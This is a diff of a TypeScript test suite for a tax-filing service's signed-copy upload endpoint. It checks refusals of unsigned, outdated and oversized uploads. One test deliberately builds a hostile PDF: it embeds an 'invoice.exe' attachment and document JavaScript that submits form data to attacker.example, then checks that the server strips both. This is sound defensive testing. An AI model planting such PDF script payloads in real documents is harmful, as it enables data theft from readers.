@@ -8,6 +8,7 @@ import { testDatabases } from '@filing-mcp/test-db';
 import { PDFDocument } from '@cantoo/pdf-lib';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { type FaxStart, READY_FILING, startFaxWithUser } from './fax-harness.js';
+import { hugePng } from '../../irs-forms/test/signed-copy-fixtures.js';
 import { newUser } from './helpers.js';
 
 // A 1x1 PNG and a 1x1 JPEG: what a phone's scan of one page stands for.
@@ -20,6 +21,7 @@ const JPEG = Buffer.from(
   'base64',
 );
 const MIB = 1024 * 1024;
+
 const sha256 = (bytes: Uint8Array) => createHash('sha256').update(bytes).digest('hex');
 
 describe.each(testDatabases())('signed copies and mark_filed on $name', (variant) => {
@@ -43,29 +45,79 @@ describe.each(testDatabases())('signed copies and mark_filed on $name', (variant
   const post = (url: string, body: any, headers: Record<string, string> = {}) =>
     fetch(url, { method: 'POST', body, headers, duplex: 'half' } as RequestInit);
 
-  it('the packet, signed and uploaded as a PDF, is kept byte for byte with its SHA-256; get_filing lists it', async () => {
+  it('the packet, signed and uploaded as a PDF, is kept rebuilt from its pages with its SHA-256; get_filing lists it', async () => {
     const id = (await fx.h.ok(fx.key, 'create_filing', { form_data: READY_FILING })).id;
-    const response = await post(await uploadUrl(id), fx.packet.pdf as Uint8Array<ArrayBuffer>, {
+    const response = await post(await uploadUrl(id), fx.packet.signed, {
       'content-type': 'application/pdf',
     });
     expect(response.status).toBe(201);
     const body: any = await response.json();
-    expect(body).toMatchObject({
-      signed_copy: {
-        sha256: sha256(fx.packet.pdf),
-        pages: fx.packet.pages,
-        byte_size: fx.packet.pdf.byteLength,
-      },
-      packet_pages: fx.packet.pages,
-    });
     const row = (await stored(id))[0]!;
-    expect(Buffer.from(row.pdf).equals(Buffer.from(fx.packet.pdf))).toBe(true);
-    expect(row.sha256).toBe(sha256(fx.packet.pdf));
+    expect(body).toMatchObject({
+      signed_copy: { sha256: sha256(row.pdf), pages: fx.packet.pages, byte_size: row.pdf.byteLength },
+      packet_pages: fx.packet.pages,
+      notes: [],
+    });
+    expect(await countPdfPages(new Uint8Array(row.pdf))).toBe(fx.packet.pages);
     const filing = await fx.h.ok(fx.key, 'get_filing', { id });
     expect(filing.submissions.signed_copies).toEqual([body.signed_copy]);
     // Deleting the filing deletes its signed copy.
     await fx.h.ok(fx.key, 'delete_filing', { id });
     expect(await stored(id)).toEqual([]);
+  });
+
+  it('the unsigned packet, uploaded byte for byte, is refused 422 unsigned, and nothing is stored', async () => {
+    const response = await post(await uploadUrl(), fx.packet.pdf as Uint8Array<ArrayBuffer>, {
+      'content-type': 'application/pdf',
+    });
+    expect(response.status).toBe(422);
+    const body: any = await response.json();
+    expect(body.error).toBe('unsigned');
+    expect(body.message).toContain("The copy is not signed: the pro forma 1120's signature box");
+    expect(await stored()).toEqual([]);
+  });
+
+  it('a signed copy of the previous version of the filing is refused 422, naming the change', async () => {
+    const id = (await fx.h.ok(fx.key, 'create_filing', { form_data: READY_FILING })).id;
+    const url = await uploadUrl(id);
+    await fx.h.ok(fx.key, 'update_filing', {
+      id,
+      form_data: { ...READY_FILING, llcName: 'Renamed Holdings LLC' },
+    });
+    const response = await post(url, fx.packet.signed, { 'content-type': 'application/pdf' });
+    expect(response.status).toBe(422);
+    const body: any = await response.json();
+    expect(body.error).toBe('outdated_copy');
+    expect(body.message).toContain(
+      `“${READY_FILING.llcName}” where the filing now has “Renamed Holdings LLC”`,
+    );
+    expect(await stored(id)).toEqual([]);
+  });
+
+  it('a signed copy with document JavaScript and an embedded file is stored without them', async () => {
+    const id = (await fx.h.ok(fx.key, 'create_filing', { form_data: READY_FILING })).id;
+    const document = await PDFDocument.load(fx.packet.signed);
+    await document.attach(new TextEncoder().encode('MZ'), 'invoice.exe', {
+      mimeType: 'application/octet-stream',
+    });
+    document.addJavaScript('submit', 'this.submitForm("https://attacker.example/collect");');
+    const response = await post(await uploadUrl(id), await document.save(), {
+      'content-type': 'application/pdf',
+    });
+    expect(response.status).toBe(201);
+    const kept = Buffer.from((await stored(id))[0]!.pdf).toString('latin1');
+    for (const word of ['/JavaScript', '/EmbeddedFile', 'invoice.exe', 'submitForm'])
+      expect(kept).not.toContain(word);
+  });
+
+  it('an 8000 × 8000 PNG is refused 413 by its header, before it is decoded, and nothing is stored', async () => {
+    const response = await post(await uploadUrl(), hugePng(), { 'content-type': 'image/png' });
+    expect(response.status).toBe(413);
+    expect((await response.json()) as any).toMatchObject({
+      error: 'image_too_large',
+      message: expect.stringContaining('File 1 is 8000 × 8000 pixels'),
+    });
+    expect(await stored()).toEqual([]);
   });
 
   it('scanned pages (JPEG and PNG), sent as multipart/form-data, become one PDF page each, in order', async () => {
@@ -81,6 +133,12 @@ describe.each(testDatabases())('signed copies and mark_filed on $name', (variant
     }
     const response = await post(await uploadUrl(id), form);
     expect(response.status).toBe(201);
+    // Scans without a text layer: what could not be told is said, for the agent to ask the user.
+    const body: any = await response.json();
+    expect(body.notes.join(' ')).toContain(
+      'ask the user to confirm the copy was printed from the current download',
+    );
+    expect(body.next).toContain('ask the user to confirm');
     const row = (await stored(id))[0]!;
     expect(row.pages).toBe(fx.packet.pages);
     expect(await countPdfPages(new Uint8Array(row.pdf))).toBe(fx.packet.pages);
